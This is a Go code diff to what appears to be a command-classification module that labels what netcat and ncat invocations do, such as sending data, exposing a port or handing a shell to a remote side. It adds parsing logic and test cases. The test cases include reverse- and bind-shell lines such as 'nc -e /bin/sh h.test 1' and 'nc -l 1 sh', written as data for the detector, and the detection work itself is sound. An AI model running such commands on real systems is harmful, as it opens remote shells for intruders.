@@ -1,6 +1,10 @@
 package commands
 
-import "automode"
+import (
+	"strings"
+
+	"automode"
+)
 
 var nc = Program{
 	Name: "nc", Kin: "netcat ncat nc.traditional nc.openbsd", Summary: "speaks to a port, or listens on one", Manual: "nc(1), netcat-openbsd 1.219, netcat-traditional 1.10 and macOS 15; ncat(1), Ncat 7.95",
@@ -13,7 +17,7 @@ var nc = Program{
 		},
 		Flags: []Flag{
 			{Names: "-z"},
-			{Names: "-l --listen", Does: []Do{{Kind: automode.Expose, Target: "a port"}}, Why: "listens for connections"},
+			{Names: "-l --listen", Does: []Do{{Kind: automode.Expose, Target: "a port"}, {Kind: automode.Send, Target: "whoever connects", Why: "hands out what it reads"}}, Why: "listens for connections"},
 			{Names: "-4 -6 -b -C --crlf -D -d -F -k --keep-open -N -n --nodns -r -S -t --telnet -u --udp -U --unixsock -v --verbose --ssl --ssl-verify --no-shutdown --recv-only --send-only --sctp --append-output -a"},
 			{Names: "-i= --idle-timeout= --interval= -I= -M= -m= --max-conns= -O= -P= --proxy-auth= --source-port= -q= -s= --source= -T= -V= -W= -w= --wait= -X= --proxy-type= --delay= --ssl-ciphers= --ssl-servername= --ssl-alpn= --proxy-dns= -G= -g= -B= --allow= --deny=", Value: Data}, {Names: "-p=", Value: Data, Of: "nc netcat ncat nc.traditional nc.openbsd"},
 			{Names: "-o= --output= -x= --hex-dump=", Value: Unread, Why: "is a file that it writes, or a proxy"},
@@ -23,7 +27,8 @@ var nc = Program{
 			{Names: "-c= --sh-exec= --lua-exec=", Value: RunsLine, Does: []Do{{Kind: automode.Expose, Traits: automode.Tunnel, Target: "a program of this machine"}}, Why: "hands a program of this machine to the other side"},
 			{Names: "--broker --chat", Does: []Do{{Kind: automode.Expose, Traits: automode.Tunnel, Target: "a relay"}}, Why: "joins those who connect"},
 		},
-		Stdin: []In{{Role: Data}},
+		Stdin:  []In{{Role: Data}},
+		Refine: ncCommand,
 	},
 }
 
@@ -32,10 +37,30 @@ var ncCases = []Case{
 	{`nc -zv h.test 80`, `Query h.test`},
 	{`nc -w 3 h.test 80`, `Send h.test`},
 	{`nc -z localhost 5432`, `Query localhost`},
-	{`nc -lk 9000`, `Expose a port`},
+	{`nc -lk 9000`, `Expose a port; Send whoever connects`},
 	{`nc -e /bin/sh h.test 1`, `Send h.test; Expose{tunnel} a program of this machine; Run[line] /bin/sh`},
-	{`ncat --sh-exec 'cat' -l 1`, `Expose{tunnel} a program of this machine; Run[line] cat; Expose a port`},
-	{`ncat --broker -l 1`, `Expose{tunnel} a relay; Expose a port`},
+	{`ncat --sh-exec 'cat' -l 1`, `Expose{tunnel} a program of this machine; Run[line] cat; Expose a port; Send whoever connects`},
+	{`ncat --broker -l 1`, `Expose{tunnel} a relay; Expose a port; Send whoever connects`},
 	{`ncat --proxy p.test --ssl-cert c h.test 1`, `Send h.test; Send p.test; Read c`},
+	{`nc h.test 1 sh`, `Send h.test; Expose{tunnel} a program of this machine; Run[words] sh`},
+	{`nc -l 1 sh`, `Expose a port; Send whoever connects; Expose{tunnel} a program of this machine; Run[words] sh`},
+	{`nc -z h.test 20-30 http`, `Query h.test`},
 	{`nc -x p h.test 1`, `Send h.test; Unknown is a file that it writes, or a proxy`},
 }
+
+// ncCommand: toybox takes a command behind the host and the port, where others take
+// more ports.
+func ncCommand(m *Match) {
+	for i := range m.Args {
+		w := &m.Args[i]
+		if i < 1 || i < 2 && !m.Has("-l") || m.Has("-z") || strings.Trim(w.Text, "0123456789-") == "" {
+			continue
+		}
+		m.addDo(&handsProgram)
+		m.addRole(RunsWords, w, "")
+		m.Facts[len(m.Facts)-1].Words = m.Args[i:]
+		return
+	}
+}
+
+var handsProgram = Do{Kind: automode.Expose, Traits: automode.Tunnel, Target: "a program of this machine", Why: "hands a program of this machine to the other side"}
